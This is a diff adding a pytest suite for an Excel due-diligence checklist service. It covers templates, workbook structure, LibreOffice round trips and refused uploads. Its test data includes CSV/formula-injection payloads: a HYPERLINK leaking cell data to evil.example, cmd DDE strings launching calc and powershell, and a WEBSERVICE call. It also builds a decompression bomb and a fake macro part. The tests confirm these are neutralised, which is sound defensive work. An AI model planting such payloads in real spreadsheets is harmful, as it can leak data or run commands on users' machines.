@@ -1,0 +1,549 @@
+"""Excel due diligence checklists: templates, the workbook, LibreOffice, the upload round trip and refusals."""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+import subprocess
+import zipfile
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from openpyxl import load_workbook
+
+from hrdd.checklists.templates import CHOICES, TemplateError, check_directory, load_templates
+from hrdd.checklists.workbook import build_workbook
+from tests.conftest import load_fixture
+
+ROOT = Path(__file__).resolve().parent.parent
+TEMPLATES_DIR = ROOT / "checklists"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+TEMPLATES = load_templates(TEMPLATES_DIR)
+SCREENINGS = ["checklist_screening_eg.json", "checklist_screening_hostile.json",
+              "checklist_screening_no_flags.json"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C notepad'!'A1'", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "#N/A",
+           "=cmd|'/C powershell'!A0", '=WEBSERVICE("http://evil.example")', "=Evil Systems"]
+
+
+def open_xlsx(data: bytes, **kwargs):
+    return load_workbook(io.BytesIO(data), **kwargs)
+
+
+def question_rows(ws) -> dict[str, int]:
+    return {ws.cell(row=r, column=1).value: r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value}
+
+
+def fill(data: bytes, answers: dict[str, object], sheet_edits=None) -> bytes:
+    """Answer questions by id the way a user would in Excel, and save."""
+    wb = open_xlsx(data)
+    ws = wb["Questions"]
+    rows = question_rows(ws)
+    for qid, value in answers.items():
+        ws.cell(row=rows[qid], column=6).value = value
+    if sheet_edits:
+        sheet_edits(wb)
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+# ---------------------------------------------------------------- templates
+
+def test_every_shipped_template_is_valid_and_complete():
+    assert set(TEMPLATES) == {"state-dept-2020", "eu-2021-821-art5", "bis-kyc-red-flags"}
+    state = TEMPLATES["state-dept-2020"]
+    assert sorted(state.steps) == list(range(1, 9))
+    assert {q.step for q in state.questions} == set(range(1, 9))
+    engine_ids = {"past_misuse": ("RF-1.1", "yes"), "exports_to_abusers": ("RF-2.2", "yes"),
+                  "end_user_disclosed": ("RF-4.1", "no"), "accepts_safeguards": ("RF-6.1", "no")}
+    for qid, (flag, risky) in engine_ids.items():
+        q = state.question(qid)
+        assert (q.red_flag, q.risky_answer, q.answer_type) == (flag, risky, "choice")
+        assert state.red_flags[flag].raised_by == "engine"
+    eu = TEMPLATES["eu-2021-821-art5"]
+    assert [eu.steps[s] for s in sorted(eu.steps)] == [
+        "Classification of the item", "Potential for misuse", "Stakeholder screening",
+        "Transaction risk assessment", "Mitigation", "Awareness and notification"]
+    assert eu.red_flags[eu.question("eu_aware_of_misuse").red_flag].severity == "critical"
+    bis = TEMPLATES["bis-kyc-red-flags"]
+    assert len(bis.questions) == 13 and {q.step for q in bis.questions} == {4}
+    for template in TEMPLATES.values():
+        for q in template.questions:
+            assert q.text.strip() and q.guidance.strip()
+            if q.red_flag:
+                assert q.red_flag in template.red_flags
+
+
+def _write_template(directory: Path, name: str, text: str) -> Path:
+    path = directory / f"{name}.yaml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+BROKEN = """
+id: broken
+version: 1
+title: Broken
+framework: x
+description: x
+sources: [{title: t, url: "ftp://example.org"}]
+steps: [{step: 1, title: One}]
+red_flags:
+  XX-1: {title: t, severity: severe, raised_by: checklist, mitigation: m}
+questions:
+  - {id: q_one, step: 2, text: "Is this a question?", guidance: "Some guidance", answer_type: choice,
+     red_flag: XX-9, risky_answer: yes}
+  - {id: q_one, step: 1, text: "Is this a question?", guidance: "Some guidance", answer_type: choice}
+  - {id: BadId, step: 1, text: "Is this a question?", guidance: "Some guidance", answer_type: choice, colour: red}
+"""
+
+
+def test_template_validation_names_file_and_every_problem(tmp_path):
+    _write_template(tmp_path, "broken", BROKEN)
+    good, bad = check_directory(tmp_path)
+    assert not good and len(bad) == 1
+    text = str(bad[0])
+    assert "broken.yaml" in text
+    for fragment in ("url", "severity", "questions.2.id", "colour"):
+        assert fragment in text
+    fixed = BROKEN.replace("ftp:", "https:").replace("severe", "high").replace(
+        "  - {id: BadId, step: 1, text: \"Is this a question?\", guidance: \"Some guidance\", answer_type: choice, colour: red}\n", "")
+    _write_template(tmp_path, "broken", fixed)
+    _, bad = check_directory(tmp_path)
+    problems = " | ".join(bad[0].problems)
+    assert "duplicate question id" in problems
+    assert "step 2 is not listed" in problems
+    assert "XX-9 is not defined" in problems
+    assert "needs the guidance step" in problems
+
+
+def _cli():
+    from hrdd.cli import cli
+    from hrdd.plugins import make_plugin_manager
+    make_plugin_manager(entry_points=False).hook.hrdd_register_commands(cli=cli)
+    return cli
+
+
+def test_checklists_check_command(tmp_path):
+    result = CliRunner().invoke(_cli(), ["checklists", "check", str(TEMPLATES_DIR)])
+    assert result.exit_code == 0, result.output
+    assert result.output.count("ok ") == 3 and "state-dept-2020 2026.1" in result.output
+    shutil.copy(TEMPLATES_DIR / "bis-kyc-red-flags.yaml", tmp_path)
+    _write_template(tmp_path, "broken", BROKEN)
+    result = CliRunner().invoke(_cli(), ["checklists", "check", str(tmp_path)])
+    assert result.exit_code != 0
+    assert "ERROR" in result.output and "broken.yaml" in result.output and "1 broken template" in result.output
+
+
+# ---------------------------------------------------------------- the workbook
+
+@pytest.mark.parametrize("fixture", SCREENINGS)
+@pytest.mark.parametrize("template_id", sorted(TEMPLATES))
+def test_workbook_structure_for_every_template(template_id, fixture):
+    template = TEMPLATES[template_id]
+    screening = load_fixture(fixture)
+    wb = open_xlsx(build_workbook(screening, template))
+    assert wb.sheetnames == ["Summary", "Questions", "Red flags", "Parties", "Sources", "hrdd_meta"]
+    assert wb["hrdd_meta"].sheet_state == "veryHidden"
+    assert wb.security.lockStructure
+    meta = {r[0]: r[1] for r in wb["hrdd_meta"].iter_rows(values_only=True)}
+    assert meta["screening_id"] == screening["id"] and meta["template_id"] == template_id
+    assert meta["template_version"] == template.version and re.fullmatch(r"[0-9a-f]{64}", meta["digest"])
+
+    ws = wb["Questions"]
+    headers = [c.value for c in ws[1]]
+    assert headers[:6] == ["ID", "Step", "Topic", "Question", "Evidence guidance", "Answer"]
+    assert ["Evidence notes", "Red flag", "Source", "Owner", "Due date", "Status"] == headers[6:]
+    assert list(question_rows(ws)) == list(template.question_ids)
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:L")
+    assert ws.print_title_rows == "$1:$1"
+    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
+    assert ws.sheet_properties.pageSetUpPr.fitToPage
+    assert ws.protection.sheet
+    rows = question_rows(ws)
+    lists = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
+    answer_dv = next(dv for dv in lists if dv.formula1 == '"Yes,No,Unknown,N/A"')
+    for q in template.questions:
+        cell = ws.cell(row=rows[q.id], column=6)
+        assert cell.protection.locked is False  # the answer can be typed into
+        assert ws.cell(row=rows[q.id], column=4).protection.locked is not False  # the question cannot
+        assert ws.cell(row=rows[q.id], column=7).protection.locked is False  # evidence notes
+        assert (cell.coordinate in answer_dv.sqref) == (q.answer_type == "choice")
+    rules = {rule.formula[0] for cf in ws.conditional_formatting for rule in cf.rules}
+    assert {'"Yes"', '"Unknown"'} <= rules
+    assert wb["Red flags"].protection.sheet and wb["Parties"].freeze_panes == "A2"
+
+
+def test_prefill_from_the_screening():
+    screening = load_fixture("checklist_screening_eg.json")
+    wb = open_xlsx(build_workbook(screening, TEMPLATES["state-dept-2020"]))
+    ws = wb["Questions"]
+    rows = question_rows(ws)
+    assert ws.cell(row=rows["past_misuse"], column=6).value == "Unknown"
+    assert ws.cell(row=rows["end_user_disclosed"], column=6).value == "Yes"
+    assert ws.cell(row=rows["end_user_disclosed"], column=12).value == "Done"
+    assert ws.cell(row=rows["accepts_safeguards"], column=6).value is None
+    assert ws.cell(row=rows["accepts_safeguards"], column=12).value == "Open"
+    assert ws.cell(row=rows["past_misuse"], column=8).value == "RF-1.1 (critical)"
+
+    flags = list(wb["Red flags"].iter_rows(min_row=2, values_only=True))
+    assert [f[0] for f in flags] == [f["id"] for f in screening["red_flags"]]
+    rf31 = next(f for f in flags if f[0] == "RF-3.1")
+    assert rf31[2] == "high" and "4/28" in rf31[4] and rf31[7] == "Open"
+    assert rf31[6].startswith("Assess how the product could be used")  # mitigation from the template
+
+    parties = list(wb["Parties"].iter_rows(min_row=2, values_only=True))
+    assert [(p[0], p[1], p[2], p[4]) for p in parties] == [
+        ("end-user", "Directorate of Public Security", "EG", "no match"),
+        ("distributor", "Nile Integrated Systems", "AE", "no match")]
+    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=4, max_col=2, values_only=True) if r[0]}
+    assert summary["Decision"] == "escalate" and summary["Gate"] == "hold"
+    assert summary["Risk score and level"] == "72 (high)"
+    assert "fiw 2025" in summary["Data versions"]
+    assert "Suspension and termination for misuse" in summary["Safeguards"]
+    assert {"Preparer", "Approver"} <= set(summary)
+    sources = [r[0] for r in wb["Sources"].iter_rows(min_row=2, values_only=True)]
+    assert "fiw" in sources and any("State" in s for s in sources)
+
+
+def test_no_red_flags_sheet_says_so():
+    wb = open_xlsx(build_workbook(load_fixture("checklist_screening_no_flags.json"), TEMPLATES["state-dept-2020"]))
+    assert wb["Red flags"]["D2"].value == "The screening raised no red flags."
+
+
+def test_transaction_text_never_becomes_a_formula():
+    screening = load_fixture("checklist_screening_hostile.json")
+    data = build_workbook(screening, TEMPLATES["state-dept-2020"])
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+    wb = open_xlsx(data)
+    seen = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    seen.setdefault(cell.value, cell)
+    texts = "\n".join(seen)
+    for hostile in HOSTILE:
+        assert hostile in texts, hostile
+    for value, cell in seen.items():
+        if value.startswith(("=", "+", "-", "@")):
+            assert cell.quotePrefix, value  # stays text even if re-entered in Excel
+    assert seen["#N/A"].data_type == "s"
+    assert any("Access control\ufffd with bell" in v for v in seen)  # control characters made harmless
+
+
+# ---------------------------------------------------------------- LibreOffice
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: "
+                                   "apt-get install libreoffice-calc-nogui")
+
+
+def _soffice(args: list[str], cwd: Path) -> None:
+    profile = cwd / "lo-profile"
+    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", *args], cwd=cwd,
+                   check=True, capture_output=True, timeout=180)
+
+
+@needs_soffice
+@pytest.mark.parametrize("template_id", sorted(TEMPLATES))
+def test_libreoffice_converts_the_workbook_to_pdf(template_id, tmp_path):
+    screening = load_fixture("checklist_screening_hostile.json")
+    (tmp_path / "checklist.xlsx").write_bytes(build_workbook(screening, TEMPLATES[template_id]))
+    _soffice(["--convert-to", "pdf", "--outdir", str(tmp_path / "out"), "checklist.xlsx"], tmp_path)
+    pdf = tmp_path / "out" / "checklist.pdf"
+    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 10_000
+    if shutil.which("pdftotext"):
+        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+        assert TEMPLATES[template_id].title in text
+        assert "=1+1" in text  # LibreOffice shows the CRM's text; it did not compute 2
+        assert "=HYPERLINK(" in text  # shown as typed, not turned into a link
+
+
+@needs_soffice
+def test_workbook_saved_by_libreoffice_uploads_cleanly(tmp_path):
+    from hrdd.checklists.templates import get_template
+    from hrdd.checklists.upload import read_checklist
+    screening = load_fixture("checklist_screening_eg.json")
+    data = fill(build_workbook(screening, TEMPLATES["state-dept-2020"]), {"past_misuse": "Yes",
+                                                                           "accepts_safeguards": "No"})
+    (tmp_path / "filled.xlsx").write_bytes(data)
+    _soffice(["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "out"), "filled.xlsx"],
+             tmp_path)
+    resaved = (tmp_path / "out" / "filled.xlsx").read_bytes()
+    checked = read_checklist(resaved, screening, lambda tid: get_template(TEMPLATES_DIR, tid))
+    assert checked.answers == {"past_misuse": "yes", "end_user_disclosed": "yes", "accepts_safeguards": "no"}
+
+
+# ---------------------------------------------------------------- the service
+
+@pytest.fixture
+def screened(client, auth_headers, transaction):
+    response = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm"))
+    assert response.status_code == 201
+    return response.get_json()
+
+
+def download(client, auth_headers, screening_id, template=None) -> bytes:
+    url = f"/v1/screenings/{screening_id}/checklist.xlsx" + (f"?template={template}" if template else "")
+    response = client.get(url, headers=auth_headers("export"))
+    assert response.status_code == 200, response.get_json()
+    assert response.mimetype == XLSX
+    return response.data
+
+
+def upload(client, auth_headers, screening_id, data, content_type=XLSX, role="export"):
+    return client.post(f"/v1/screenings/{screening_id}/checklist", data=data,
+                       headers={**auth_headers(role), "Content-Type": content_type})
+
+
+def counts(app):
+    from hrdd.checklists.evidence import count_uploads
+    store = app.extensions["hrdd"].store
+    return store.count_screenings(), count_uploads(store)
+
+
+def test_round_trip_answer_changes_the_decision(app, client, auth_headers, screened):
+    assert screened["decision"] == "escalate"
+    assert "RF-1.1" not in [f["id"] for f in screened["red_flags"]]
+    data = download(client, auth_headers, screened["id"])
+    rows = question_rows(open_xlsx(data)["Questions"])
+    assert open_xlsx(data)["Questions"].cell(row=rows["past_misuse"], column=6).value == "Unknown"
+    filled = fill(data, {"past_misuse": "Yes", "review_date": "2027-03-31"})
+    response = upload(client, auth_headers, screened["id"], filled)
+    assert response.status_code == 201, response.get_json()
+    new = response.get_json()
+    assert new["id"] != screened["id"] and new["transaction_id"] == screened["transaction_id"]
+    assert new["decision"] == "do_not_proceed" and new["gate"] == "block"
+    assert "RF-1.1" in [f["id"] for f in new["red_flags"]]
+    assert new["transaction"]["answers"] == {"past_misuse": "yes", "end_user_disclosed": "yes"}
+    assert new["transaction"]["end_user"] == screened["transaction"]["end_user"]
+    assert response.headers["Location"] == f"/v1/screenings/{new['id']}"
+    assert client.get(response.headers["Location"], headers=auth_headers("crm")).get_json()["decision"] == \
+        "do_not_proceed"
+
+    from hrdd.checklists.evidence import upload_content, uploads_of
+    store = app.extensions["hrdd"].store
+    [row] = uploads_of(store, screened["id"])
+    assert row["new_screening_id"] == new["id"] and row["id"] == new["checklist_upload"]["id"]
+    assert row["template_id"] == "state-dept-2020" and row["answers"]["past_misuse"] == "yes"
+    assert row["record"]["responses"]["review_date"]["answer"] == "2027-03-31"
+    assert row["uploaded_by"] == "test-export"
+    assert upload_content(store, row["id"]) == filled
+    with store.engine.connect() as conn:
+        import sqlalchemy as sa
+        source = conn.execute(sa.text("SELECT source FROM screenings WHERE id = :i"), {"i": new["id"]}).scalar()
+    assert source == "checklist"
+
+
+def test_multipart_upload_and_checklist_raised_flag(client, auth_headers):
+    norway = load_fixture("transaction_norway_storage.json")
+    first = client.post("/v1/screenings", json=norway, headers=auth_headers("crm")).get_json()
+    assert first["decision"] == "proceed"
+    data = download(client, auth_headers, first["id"], template="bis-kyc-red-flags")
+    filled = fill(data, {"kyc_reluctant_end_use": "yes ", "kyc_unusual_payment": "No"})
+    response = client.post(f"/v1/screenings/{first['id']}/checklist", headers=auth_headers("export"),
+                           data={"file": (io.BytesIO(filled), "kyc.xlsx", XLSX)},
+                           content_type="multipart/form-data")
+    assert response.status_code == 201, response.get_json()
+    new = response.get_json()
+    flag = next(f for f in new["red_flags"] if f["id"] == "KYC-2")
+    assert flag["severity"] == "high" and flag["step"] == 4 and "kyc_reluctant_end_use = Yes" in flag["evidence"]
+    assert new["decision"] == "escalate"
+    assert new["checklist_upload"]["answers"] == {"kyc_reluctant_end_use": "yes", "kyc_unusual_payment": "no"}
+
+
+def test_download_needs_the_export_role_and_a_known_template(client, auth_headers, screened):
+    url = f"/v1/screenings/{screened['id']}/checklist.xlsx"
+    assert client.get(url).status_code == 401
+    assert client.get(url, headers=auth_headers("crm")).status_code == 403
+    bad = client.get(url + "?template=nope", headers=auth_headers("export"))
+    assert bad.status_code == 422 and "state-dept-2020" in bad.get_json()["message"]
+    eu = open_xlsx(download(client, auth_headers, screened["id"], template="eu-2021-821-art5"))
+    assert "eu_aware_of_misuse" in question_rows(eu["Questions"])
+
+
+@pytest.mark.store
+def test_configured_default_template(tmp_path, app_config, auth_headers):
+    from server import create_app
+    app = create_app({**app_config, "HRDD_CHECKLIST_TEMPLATE": "eu-2021-821-art5"})
+    client = app.test_client()
+    _, crm = app.extensions["hrdd"].store.create_api_key("c", "crm")
+    _, exp = app.extensions["hrdd"].store.create_api_key("e", "export")
+    first = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"),
+                        headers={"Authorization": f"Bearer {crm}"}).get_json()
+    data = client.get(f"/v1/screenings/{first['id']}/checklist.xlsx", headers={"Authorization": f"Bearer {exp}"}).data
+    meta = {r[0]: r[1] for r in open_xlsx(data)["hrdd_meta"].iter_rows(values_only=True)}
+    assert meta["template_id"] == "eu-2021-821-art5"
+    app.extensions["hrdd"].store.engine.dispose()
+
+
+# ---------------------------------------------------------------- refused uploads
+
+def _zip(entries: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def _with_entries(data: bytes, extra: dict[str, bytes], replace=None) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    for name, fn in (replace or {}).items():
+        entries[name] = fn(entries[name])
+    return _zip({**entries, **extra})
+
+
+def _set_meta(key, value):
+    def edit(wb):
+        ws = wb["hrdd_meta"]
+        for row in ws.iter_rows():
+            if row[0].value == key:
+                row[1].value = value
+    return edit
+
+
+def refusals(data: bytes, other: bytes):
+    """(name, body, content type, status, code) for every kind of upload that must be refused."""
+    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"\0" * (60 * 1024 * 1024)})
+    return [
+        ("another screening's workbook", other, XLSX, 422, "checklist_mismatch"),
+        ("answer outside the dropdown", fill(data, {"past_misuse": "Maybe", "accepts_safeguards": "Perhaps"}),
+         XLSX, 422, "validation_error"),
+        ("unknown question id", fill(data, {}, lambda wb: wb["Questions"].cell(row=2, column=1,
+                                                                                value="invented_question")),
+         XLSX, 422, "validation_error"),
+        ("tampered digest", fill(data, {}, _set_meta("digest", "0" * 64)), XLSX, 422, "checklist_mismatch"),
+        ("older template version", fill(data, {}, _set_meta("template_version", "2019.1")), XLSX, 422,
+         "checklist_mismatch"),
+        ("macro-enabled content type", data, "application/vnd.ms-excel.sheet.macroEnabled.12", 415,
+         "macro_enabled"),
+        ("vbaProject inside", _with_entries(data, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), XLSX, 415,
+         "macro_enabled"),
+        ("macro-enabled main part", _with_entries(data, {}, {"[Content_Types].xml": lambda b: b.replace(
+            b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")}), XLSX, 415,
+         "macro_enabled"),
+        ("decompression bomb", bomb, XLSX, 413, "uncompressed_too_large"),
+        ("legacy xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, XLSX, 415, "unsupported_media_type"),
+        ("a PDF", b"%PDF-1.7\n%...", XLSX, 415, "unsupported_media_type"),
+        ("a Word file", _zip({"[Content_Types].xml": b'<Types><Override ContentType="application/vnd.openxmlformats-'
+                                                     b'officedocument.wordprocessingml.document.main+xml"/></Types>',
+                              "word/document.xml": b"<w/>"}), XLSX, 415, "unsupported_media_type"),
+        ("plain text content type", data, "text/plain", 415, "unsupported_media_type"),
+        ("empty body", b"", XLSX, 422, "invalid_checklist"),
+        ("not an hrdd checklist", _minimal_workbook(), XLSX, 422, "invalid_checklist"),
+    ]
+
+
+def _minimal_workbook() -> bytes:
+    from openpyxl import Workbook
+    out = io.BytesIO()
+    Workbook().save(out)
+    return out.getvalue()
+
+
+def test_every_refused_upload_stores_nothing(app, client, auth_headers, screened, transaction):
+    data = download(client, auth_headers, screened["id"])
+    transaction["reference"]["object_id"] = "another-opportunity"
+    other_screening = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm")).get_json()
+    other = download(client, auth_headers, other_screening["id"])
+    before = counts(app)
+    for name, body, content_type, status, code in refusals(data, other):
+        response = upload(client, auth_headers, screened["id"], body, content_type)
+        payload = response.get_json()
+        assert (response.status_code, payload["code"]) == (status, code), (name, payload)
+        assert payload["message"], name
+        assert counts(app) == before, name
+    invalid = upload(client, auth_headers, screened["id"],
+                     fill(data, {"past_misuse": "Maybe", "accepts_safeguards": "Perhaps"})).get_json()
+    assert set(invalid["errors"]["answers"]) == {"past_misuse", "accepts_safeguards"}
+    assert "past_misuse" in invalid["message"] and "'Maybe' is not one of Yes, No, Unknown, N/A" in \
+        invalid["errors"]["answers"]["past_misuse"][0]
+    assert "2019.1" in upload(client, auth_headers, screened["id"],
+                              fill(data, {}, _set_meta("template_version", "2019.1"))).get_json()["message"]
+
+
+@pytest.mark.store
+def test_upload_size_limit_and_roles(app_config, tmp_path):
+    from server import create_app
+    app = create_app({**app_config, "HRDD_CHECKLIST_MAX_UPLOAD": 4000})
+    client = app.test_client()
+    store = app.extensions["hrdd"].store
+    keys = {role: {"Authorization": f"Bearer {store.create_api_key(role, role)[1]}"} for role in ("crm", "export")}
+    first = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"),
+                        headers=keys["crm"]).get_json()
+    data = client.get(f"/v1/screenings/{first['id']}/checklist.xlsx", headers=keys["export"]).data
+    assert len(data) > 4000
+    url = f"/v1/screenings/{first['id']}/checklist"
+    before = store.count_screenings()
+    too_big = client.post(url, data=data, headers={**keys["export"], "Content-Type": XLSX})
+    assert too_big.status_code == 413 and too_big.get_json()["code"] == "upload_too_large"
+    assert "4000" in too_big.get_json()["message"]
+    assert client.post(url, data=data, headers={"Content-Type": XLSX}).status_code == 401
+    assert client.post(url, data=data, headers={**keys["crm"], "Content-Type": XLSX}).status_code == 403
+    missing = client.post("/v1/screenings/scr_nope/checklist", data=data,
+                          headers={**keys["export"], "Content-Type": XLSX})
+    assert missing.status_code == 404
+    no_field = client.post(url, data={"other": "x"}, headers=keys["export"], content_type="multipart/form-data")
+    assert no_field.status_code == 422 and no_field.get_json()["errors"] == {"file": ["missing"]}
+    assert store.count_screenings() == before
+    store.engine.dispose()
+
+
+@pytest.mark.store
+def test_template_changed_since_download_is_refused(app_config, tmp_path):
+    from server import create_app
+    directory = tmp_path / "checklists"
+    shutil.copytree(TEMPLATES_DIR, directory)
+    app = create_app({**app_config, "HRDD_CHECKLISTS_DIR": str(directory)})
+    client = app.test_client()
+    store = app.extensions["hrdd"].store
+    crm = {"Authorization": f"Bearer {store.create_api_key('c', 'crm')[1]}"}
+    export = {"Authorization": f"Bearer {store.create_api_key('e', 'export')[1]}"}
+    first = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"), headers=crm).get_json()
+    data = client.get(f"/v1/screenings/{first['id']}/checklist.xlsx", headers=export).data
+    path = directory / "state-dept-2020.yaml"
+    path.write_text(path.read_text().replace('version: "2026.1"', 'version: "2027.1"'))
+    response = client.post(f"/v1/screenings/{first['id']}/checklist", data=fill(data, {"past_misuse": "No"}),
+                           headers={**export, "Content-Type": XLSX})
+    assert response.status_code == 422 and response.get_json()["code"] == "checklist_mismatch"
+    assert "2027.1" in response.get_json()["message"]
+    store.engine.dispose()
+
+
+@pytest.mark.store
+def test_broken_template_refuses_start_up(app_config, tmp_path):
+    from server import create_app
+    directory = tmp_path / "checklists"
+    shutil.copytree(TEMPLATES_DIR, directory)
+    _write_template(directory, "broken", BROKEN)
+    with pytest.raises(TemplateError, match="broken.yaml"):
+        create_app({**app_config, "HRDD_CHECKLISTS_DIR": str(directory)})
+
+
+def test_checklist_command_writes_the_workbook(app, screened, tmp_path):
+    from flask.cli import ScriptInfo
+    output = tmp_path / "out.xlsx"
+    runner = CliRunner()
+    obj = ScriptInfo(create_app=lambda: app)
+    result = runner.invoke(_cli(), ["checklist", screened["id"], "-o", str(output), "--template",
+                                    "bis-kyc-red-flags"], obj=obj)
+    assert result.exit_code == 0, result.output
+    meta = {r[0]: r[1] for r in open_xlsx(output.read_bytes())["hrdd_meta"].iter_rows(values_only=True)}
+    assert meta["screening_id"] == screened["id"] and meta["template_id"] == "bis-kyc-red-flags"
+    missing = runner.invoke(_cli(), ["checklist", "scr_nope", "-o", str(output)], obj=obj)
+    assert missing.exit_code != 0 and "does not exist" in missing.output
+
+
+def test_choices_match_the_canonical_answer_values():
+    from hrdd.model import ANSWER_VALUES
+    assert sorted(CHOICES.values()) == sorted(ANSWER_VALUES)
